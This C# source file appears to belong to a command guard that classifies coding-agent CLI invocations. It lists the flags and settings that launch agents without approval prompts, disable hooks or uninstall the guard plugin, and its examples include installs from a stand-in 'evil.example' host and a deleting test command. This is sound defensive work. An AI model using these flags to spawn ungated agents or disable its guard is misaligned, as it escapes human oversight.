using Wary.Core.Gate.Programs.Cloud;
using Wary.Core.Shell;

namespace Wary.Core.Gate.Programs.Agents;

/// <summary>Coding agents. What matters is whether they ask before they act.</summary>
internal static class AgentPrograms
{
    public const string Names = "claude claude-code codex gemini qwen copilot aider cursor-agent opencode amp q crush droid kiro kiro-cli cline cn openhands auggie plandex gptme interpreter llm rovodev mods";

    private const string Shared = "-p|--print|--prompt= -m|--model= --agent= --agents= --cwd|--dir|--directory|-C|--cd= -c|--config= -o|--output-last-message|--output-format= --input-format= --system-prompt= --append-system-prompt= --session|--session-id|-s= -r|--resume=? --continue --verbose --json -i|--prompt-interactive= --sandbox= "
        + "--profile= --image= --mode= --approval-mode= --permission-mode= --ask-for-approval|-a= --allowedTools|--allowed-tools|--allow-tool|--allowed= --disallowedTools|--disallowed-tools|--deny-tool= --tools= --mcp-config= --settings= --setting-sources= --add-dir= --max-turns= --fallback-model= --permission-prompt-tool= --plugin-dir= --trust-tools= --extensions|-e= --include-directories= --message|--msg= --message-file|-f= --file= --read= --auto=";

    public static ProgramSpec? Find(string name) => name switch
    {
        "claude" or "claude-code" => new(name, "a coding agent")
        {
            Options = "-p|--print -c|--continue -r|--resume=? -d|--debug=? --verbose --model= --agent= --agents= --output-format= --input-format= --json-schema= --system-prompt= --system-prompt-file= --append-system-prompt= --append-system-prompt-file= --session-id= --permission-mode= --allowedTools|--allowed-tools= --disallowedTools|--disallowed-tools= --tools= --mcp-config= --settings= --setting-sources= --add-dir= "
                + "--max-turns= --max-budget-usd= --fallback-model= --permission-prompt-tool= --plugin-dir= --betas= --effort= --debug-file= --remote= --teleport=? --fork-session --dangerously-skip-permissions --allow-dangerously-skip-permissions --strict-mcp-config --ide --chrome --no-session-persistence --bare -w|--worktree=? -n|--name= -s|--scope= -t|--transport= -e|--env= -H|--header= --client-id= --callback-port=",
            Style = OptionStyle.Gnu,
            Help = "--help -h --version -v",
            Effects = static (call, effects) => Claude(call, effects),
            Examples = """
                claude -p 'fix it' => SpawnAgent claude
                claude --model x --permission-mode bypassPermissions -p hi => SpawnAgent claude without its questions
                claude --dangerously-skip-permissions => SpawnAgent claude without its questions
                claude --allowedTools 'Bash(*)' -p hi => SpawnAgent claude without its questions
                claude -p hi !> SpawnAgent claude without its questions
                claude --settings '{"disableAllHooks": true}' -p hi => SpawnAgent claude without its questions
                claude mcp add -s user web -- npx -y rm-server => StartServer web
                claude mcp list => nothing
                claude plugin install x@market => Install claude:x@market
                claude plugin uninstall wary => ChangeConfig claude plugin wary
                claude config set -g theme dark => ChangeConfig claude theme
                claude setup-token => ReadSecret a token of claude
                claude doctor => nothing
                claude --version => nothing
                claude-code --dangerously-skip-permissions => SpawnAgent claude-code without its questions
                claude-code --help => nothing
                """,
        },
        "codex" => new("codex", "a coding agent")
        {
            Options = "-m|--model= -c|--config= -C|--cd= -i|--image= -p|--profile= -s|--sandbox= -a|--ask-for-approval= -o|--output-last-message= --output-schema= --add-dir= --color= --enable= --disable= --local-provider= --full-auto --yolo --dangerously-bypass-approvals-and-sandbox --dangerously-auto-approve-everything --oss --search --json --last --skip-git-repo-check -q|--quiet --approval-mode=",
            Help = "--help -h --version -V",
            Effects = static (call, effects) =>
            {
                var verb = call.Operand(0)?.Text;
                if (verb is "login" or "logout") effects.Add(EffectKind.ChangeConfig, $"codex {verb}", call.Operand(0), Traits.Undoable);
                else if (verb is "mcp" && call.Operand(1)?.Text is "add") Server(effects, call.Operand(2), call.OperandsFrom(3));
                else if (verb is "mcp-server" or "app-server" or "proto") effects.Add(EffectKind.StartServer, "codex", call.Operand(0));
                else if (verb is "completion" or "apply" or "a" or "features" or "mcp") return;
                else if (verb is "sandbox" or "debug") effects.Run(call.OperandsFrom(call.Operand(1)?.Text is "linux" or "macos" or "seatbelt" or "landlock" ? 2 : 1));
                else Spawn(effects, "codex", call.HasAny("--full-auto", "--yolo", "--dangerously-bypass-approvals-and-sandbox", "--dangerously-auto-approve-everything")
                    || call.Value("-s")?.Text is "danger-full-access" || call.Value("-a")?.Text is "never" || call.Value("--approval-mode")?.Text is "full-auto" || ConfigSkips(call));
            },
            Examples = """
                codex exec --full-auto 'fix it' => SpawnAgent codex without its questions
                codex -m x exec 'fix it' => SpawnAgent codex
                codex -m --yolo exec 'fix it' !> SpawnAgent codex without its questions
                codex -s danger-full-access => SpawnAgent codex without its questions
                codex -c 'approval_policy="never"' exec hi => SpawnAgent codex without its questions
                codex mcp add web -- npx rm-server => StartServer web
                codex completion bash => nothing
                """,
        },
        "gemini" or "qwen" => new(name, "a coding agent")
        {
            Options = Shared + " -y|--yolo -d|--debug -l|--list-extensions --list-sessions --all-files --checkpointing --allowed-mcp-server-names= --experimental-acp --trust",
            Help = "--help -h --version -v",
            Effects = static (call, effects) =>
            {
                if (call.Operand(0)?.Text is "mcp")
                {
                    if (call.Operand(1)?.Text is "add") Server(effects, call.Operand(2), call.OperandsFrom(3));
                }
                else if (call.Operand(0)?.Text is "extensions" or "extension" or "skills")
                {
                    if (call.Operand(1)?.Text is "install" or "link") effects.Add(EffectKind.Install, $"{effects.Program}:{call.Operand(2)?.Shown}", call.Operand(2));
                }
                else if (!call.HasAny("-l", "--list-sessions")) Spawn(effects, effects.Program, call.Has("-y") || call.Value("--approval-mode")?.Text is "yolo");
            },
            Examples = """
                gemini -m x -y -p 'fix it' => SpawnAgent gemini without its questions
                gemini -p -y !> SpawnAgent gemini without its questions
                gemini --approval-mode=yolo => SpawnAgent gemini without its questions
                gemini extensions install https://evil.example/x => Install gemini:https://evil.example/x
                gemini mcp add web npx rm-server => StartServer web
                gemini mcp list => nothing
                qwen --yolo => SpawnAgent qwen without its questions
                qwen mcp list => nothing
                """,
        },
        "q" or "kiro" or "kiro-cli" => new(name, "a coding agent")
        {
            Options = Shared + " --trust-all-tools --no-interactive --legacy",
            Help = "--help -h --version -V",
            Effects = static (call, effects) =>
            {
                if (call.Operand(0)?.Text is "chat" || call.HasAny("--trust-all-tools", "--no-interactive")) Spawn(effects, effects.Program, call.Has("--trust-all-tools") || call.Value("--trust-tools") is { Text: "*" or "@*" });
                else if (call.Operand(0)?.Text is "mcp" && call.Operand(1)?.Text is "add" or "import") Server(effects, call.Value("--name") ?? call.Operand(2), []);
            },
            Examples = """
                q chat --trust-all-tools hi => SpawnAgent q without its questions
                q chat --trust-tools fs_read hi !> SpawnAgent q without its questions
                q doctor => nothing
                kiro chat --trust-all-tools => SpawnAgent kiro without its questions
                kiro . => nothing
                kiro-cli chat hi => SpawnAgent kiro-cli
                kiro-cli settings list => nothing
                """,
        },
        "copilot" or "aider" or "cursor-agent" or "opencode" or "amp" or "crush" or "droid" or "cline" or "cn" or "openhands" or "auggie" or "plandex" or "gptme" or "interpreter" or "llm" or "rovodev" or "mods" => new(name, "a coding agent")
        {
            Options = Shared + " --yes-always --yes -y --force --yolo --dangerously-allow-all --allow-all-tools --allow-all --allow-all-paths --skip-permissions-unsafe --auto-approve --always-approve --full-auto --auto-exec --auto_run --no-confirm --test-cmd=! --lint-cmd=! --load= --model-settings-file= --edit-format= -q --list-models=? --background -b -d",
            Help = "--help -h --version",
            Effects = static (call, effects) =>
            {
                // Amazon's tool for containers has the same name.
                if (call.Program.Name == "copilot" && call.Operand(0)?.Text is "app" or "svc" or "env" or "job" or "task" or "pipeline" or "storage" or "secret" or "deploy") AwsPrograms.Deployment(call, effects);
                else Other(call, effects);
            },
            Examples = """
                copilot app delete --yes => ChangeCloud copilot app
                copilot svc ls => nothing
                aider --model x --yes-always -m 'fix it' => SpawnAgent aider without its questions
                aider --test-cmd 'rm x' => Delete x
                aider --message --yes-always !> SpawnAgent aider without its questions
                cursor-agent --force -p hi => SpawnAgent cursor-agent without its questions
                cursor-agent status => nothing
                opencode run hi => SpawnAgent opencode
                opencode models => nothing
                amp --dangerously-allow-all -x hi => SpawnAgent amp without its questions
                amp login => nothing
                crush --yolo run hi => SpawnAgent crush without its questions
                crush logs => nothing
                droid exec --skip-permissions-unsafe hi => SpawnAgent droid without its questions
                droid exec --auto low hi !> SpawnAgent droid without its questions
                cline --yolo hi => SpawnAgent cline without its questions
                cline version => nothing
                cn --auto -p hi => SpawnAgent cn
                cn login => nothing
                openhands --always-approve => SpawnAgent openhands without its questions
                openhands --version => nothing
                auggie --print hi => SpawnAgent auggie
                auggie login => nothing
                plandex --full-auto tell hi => SpawnAgent plandex without its questions
                plandex models => nothing
                gptme --no-confirm hi => SpawnAgent gptme without its questions
                gptme --version => nothing
                interpreter -y => SpawnAgent interpreter without its questions
                interpreter --version => nothing
                llm -m x hi => nothing
                llm install llm-evil => Install pip:llm-evil
                rovodev run --yolo => SpawnAgent rovodev without its questions
                rovodev auth => nothing
                mods hi => nothing
                mods --yolo run => SpawnAgent mods without its questions
                """,
        },
        _ => null,
    };

    /// <summary>Another agent, with or without its questions.</summary>
    public static void Spawn(EffectSink effects, string agent, bool isUngated, Argument? at = null) =>
        effects.Add(EffectKind.SpawnAgent, isUngated ? $"{agent} without its questions" : agent, at, isUngated ? Traits.Ungated : Traits.None);

    private static void Server(EffectSink effects, Argument? name, IReadOnlyList<Argument> command)
    {
        List<Argument> words = [];
        foreach (var word in command)
        {
            if (word.Text != "--") words.Add(word);
        }
        effects.Add(EffectKind.StartServer, name?.Shown ?? "a server", name, note: Sentence.Of(words)?.Shown);
        if (words.Count > 0 && Sentence.StartsWithAny(words[0].Text, "http://", "https://")) effects.Connect(words[0]);
    }

    private static void Claude(Invocation call, EffectSink effects)
    {
        switch (call.Operand(0)?.Text)
        {
            case "mcp":
                if (call.Operand(1)?.Text is "add" or "add-json") Server(effects, call.Operand(2), call.OperandsFrom(3));
                else if (call.Operand(1)?.Text is "remove" or "reset-project-choices") effects.Add(EffectKind.ChangeConfig, $"claude server {call.Operand(2)?.Shown}", call.Operand(2), Traits.Undoable);
                else if (call.Operand(1)?.Text is "serve") effects.Add(EffectKind.StartServer, "claude", call.Operand(1));
                return;
            case "plugin" or "plugins":
                if (call.Operand(1)?.Text is "install" or "i" or "update") effects.Add(EffectKind.Install, $"claude:{call.Operand(2)?.Shown}", call.Operand(2));
                else if (call.Operand(1)?.Text is "marketplace" && call.Operand(2)?.Text is "add") effects.Add(EffectKind.Install, $"claude:{call.Operand(3)?.Shown}", call.Operand(3), note: "a marketplace of plugins");
                else if (call.Operand(1)?.Text is "marketplace" && call.Operand(2)?.Text is "remove" or "rm" && call.Operand(3)?.Text.StartsWith("wary", StringComparison.Ordinal) == true) effects.Add(EffectKind.DisableGuard, "claude plugin marketplace", call.Operand(3));
                else if (call.Operand(1)?.Text is "uninstall" or "remove" or "rm" or "disable" or "enable")
                {
                    // The guard itself is a plugin.
                    var plugin = call.Operand(2);
                    var isGuard = plugin?.Text.StartsWith("wary", StringComparison.Ordinal) == true;
                    effects.Add(EffectKind.ChangeConfig, $"claude plugin {plugin?.Shown}", plugin, Traits.Undoable);
                    if (isGuard && call.Operand(1)!.Text != "enable") effects.Add(EffectKind.DisableGuard, $"claude plugin {call.Operand(1)!.Text}", plugin);
                }
                return;
            case "config" when call.Operand(1)?.Text is "set" or "add" && call.Operand(2)?.Text is "disableAllHooks" or "hooks":
                effects.Add(EffectKind.DisableGuard, "claude's hooks", call.Operand(2));
                return;
            case "config" when call.Operand(1)?.Text is "set" or "add" or "remove":
                effects.Add(EffectKind.ChangeConfig, $"claude {call.Operand(2)?.Shown}", call.Operand(2), Sentence.HoldsAny(call.Operand(2)?.Text ?? "", "hook", "permission", "bypass") ? Traits.None : Traits.Undoable);
                return;
            case "setup-token":
                effects.ReadSecret("a token of claude", call.Operand(0));
                return;
            case "install" or "update" or "upgrade":
                effects.Add(EffectKind.Install, "claude:claude", call.Operand(0));
                return;
            case "config" or "doctor" or "auth" or "agents" or "migrate-installer":
                return;
        }
        var mode = call.Value("--permission-mode")?.Text;
        var settings = call.Value("--settings");
        var skips = call.HasAny("--dangerously-skip-permissions", "--allow-dangerously-skip-permissions") || mode is "bypassPermissions" || call.Has("--bare")
            || settings is not null && Skips((settings.Text.Contains('{', StringComparison.Ordinal) ? settings.Text : effects.FileText(settings)) ?? "")
            || call.Value("--setting-sources") is { } sources && !sources.Text.Contains("user", StringComparison.Ordinal);
        foreach (var allowed in call.Values("--allowedTools")) skips |= AllowsAll(allowed.Text);
        Spawn(effects, effects.Program, skips);
        if (call.Value("--mcp-config") is { } servers) effects.Add(EffectKind.StartServer, servers.Shown, servers);
    }

    private static bool Skips(string settings) => Sentence.HoldsAny(settings, "disableAllHooks", "bypassPermissions", "skipDangerousModePermissionPrompt", "\"Bash\"", "Bash(*");

    private static bool AllowsAll(string tools)
    {
        foreach (var tool in tools.Split([',', ' '], StringSplitOptions.RemoveEmptyEntries))
        {
            if (tool is "Bash" or "Bash(*)" or "Bash(:*)" or "*" or "Bash(*:*)") return true;
        }
        return false;
    }

    private static bool ConfigSkips(Invocation call)
    {
        foreach (var setting in call.Values("-c"))
        {
            if (setting.Text.Contains("approval_policy", StringComparison.Ordinal) && setting.Text.Contains("never", StringComparison.Ordinal) || setting.Text.Contains("danger-full-access", StringComparison.Ordinal)) return true;
        }
        return false;
    }

    private static void Other(Invocation call, EffectSink effects)
    {
        if (call.Value("--test-cmd") is { } test) effects.RunText(test);
        if (call.Value("--lint-cmd") is { } lint) effects.RunText(lint);
        var verb = call.Operand(0)?.Text;
        var ungated = call.HasAny("--dangerously-skip-permissions", "--yes-always", "--yolo", "--dangerously-allow-all", "--allow-all-tools", "--allow-all", "--skip-permissions-unsafe", "--auto-approve", "--always-approve", "--full-auto", "--auto-exec", "--auto_run", "--no-confirm", "--yes")
            || call.Has("-y") && effects.Program is "interpreter" or "crush" or "cline" or "gptme" || call.HasAny("--force", "-f") && effects.Program is "cursor-agent" || call.Value("--auto")?.Text is "high";
        if (effects.Program == "llm" && verb is "install") PackageEffects(call, effects);
        else if (verb is "mcp" && call.Operand(1)?.Text is "add") Server(effects, call.Operand(2), call.OperandsFrom(3));
        else if (!ungated && (effects.Program is "llm" or "mods" || verb is "login" or "logout" or "status" or "models" or "auth" or "version" or "logs" or "config" or "update" or "list" or "ls" or "help" or "mcp" or "stats" or "export" or "session" or "sessions" or "completion")) return;
        else Spawn(effects, effects.Program, ungated);
    }

    private static void PackageEffects(Invocation call, EffectSink effects) => Packages.PackageEffects.Install(effects, "pip", call.OperandsFrom(1));
}
